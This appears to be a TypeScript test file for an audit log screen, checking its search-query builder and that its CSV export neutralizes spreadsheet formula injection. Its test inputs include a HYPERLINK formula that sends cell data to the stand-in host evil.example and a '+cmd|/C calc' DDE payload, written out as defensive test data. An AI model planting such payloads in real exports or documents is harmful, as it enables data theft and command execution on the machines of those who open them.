import Papa from 'papaparse';
import type { AuditEvent } from '../../../../src/contract/accounts';
import { auditCsv, auditSearch, EMPTY_AUDIT_FILTERS } from '../../../../src/features/audit/model';
import { auditEvent } from '../../../helpers/msw-audit';

// What the Audit screen asks the server for, and the CSV of what it has loaded.

const instant = (local: string) => new Date(local).toISOString();

describe('auditSearch', () => {
  it('asks for the first page of everything when no filter is set', () => {
    expect(auditSearch(EMPTY_AUDIT_FILTERS, null)).toBe('limit=100');
  });

  it('names each filter set, since and until as instants of the local times chosen', () => {
    const search = auditSearch(
      { actor: ' ada ', action: 'query.run', since: '2030-01-01T09:00', until: '2030-01-01T17:30' },
      'Y3Vyc29y',
    );
    expect(Object.fromEntries(new URLSearchParams(search))).toEqual({
      actor: 'ada',
      action: 'query.run',
      since: instant('2030-01-01T09:00'),
      until: instant('2030-01-01T17:30'),
      cursor: 'Y3Vyc29y',
      limit: '100',
    });
  });
});

const withBody = (Body: string): AuditEvent =>
  auditEvent({
    details: { command: 'create-message', params: { To: '+15558675310', Body }, sid: 'SM1' },
  });

const parse = (csv: string) => Papa.parse<Record<string, string>>(csv, { header: true }).data;

describe('auditCsv', () => {
  it('has a column per field, the run flattened, and all details as JSON', () => {
    const event = auditEvent({ ip: null });
    const [row] = parse(auditCsv([event]));
    expect(row).toEqual({
      at: event.at,
      actor: 'ada',
      action: 'query.run',
      target: 'query:q_send',
      outcome: 'success',
      ip: '',
      command: 'create-message',
      // A leading + is what a spreadsheet reads as a formula too.
      to: "'+15558675310",
      body: 'Hello',
      sid: event.details.sid,
      status: 'queued',
      errorCode: '',
      details: JSON.stringify(event.details),
    });
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?d="&A1,"Click")'],
    ['=HYPERLINK("http://evil.example")\nsecond line'],
    ['+cmd|/C calc!A0'],
    ['-2+3'],
    ['@SUM(A1:A2)'],
    ['\t=1+1'],
  ])('makes a body a spreadsheet would run inert: %j', (body) => {
    const [row] = parse(auditCsv([withBody(body)]));
    expect(row!.body).toBe(`'${body}`);
  });

  it('leaves an ordinary body as it is', () => {
    const [row] = parse(auditCsv([withBody('Your code is 1234 = done')]));
    expect(row!.body).toBe('Your code is 1234 = done');
  });
});
